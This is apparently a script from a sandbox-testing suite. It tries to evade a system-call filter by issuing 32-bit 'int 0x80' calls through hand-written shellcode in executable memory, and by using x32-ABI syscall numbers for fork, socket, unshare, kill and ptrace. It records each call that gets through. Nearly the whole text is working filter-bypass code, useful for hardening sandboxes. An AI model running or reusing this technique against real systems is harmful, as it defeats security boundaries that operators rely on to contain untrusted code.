# Makes system calls under the numbers of 32-bit programs, which mean something else to whoever filters them.
# reports: call socket

# %%
import ctypes
import mmap
import os
import threading

results = []

if os.uname().machine == "x86_64":
    # f(number, first, second): int 0x80
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(bytes.fromhex("53 89f8 89f3 89d1 31d2 cd80 5b c3"))
    old = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
else:
    old = None


def try_it(name, function):
    # In a thread of its own: what stops it may stop that thread only, and leave the rest for the others.
    thread = threading.Thread(target=lambda: results.append((name, function())), daemon=True)
    thread.start()
    thread.join(0.1)

# %%
# getpid, then kill(parent, 0), fork, socketcall, unshare, ptrace(TRACEME)
if old:
    for number, first, second in ((20, 0, 0), (37, TARGET["parent"], 0), (102, 1, 0), (310, 0x10000000, 0), (26, 0, 0)):
        try_it(f"int 0x80: {number}", lambda: old(number, first, second))
for number in (39, 62, 41, 57, 520, 522):
    try_it(f"x32: {number}", lambda: LIBC.syscall(ctypes.c_long(0x40000000 | number), TARGET["parent"] if number == 62 else 1, 0, 0))

# %%
for name, result in results:
    if result >= 0:
        won(name)

# %%
# Such a thread is ended without a word; what it asks for next, the kernel tells of.
import socket

socket.socket()
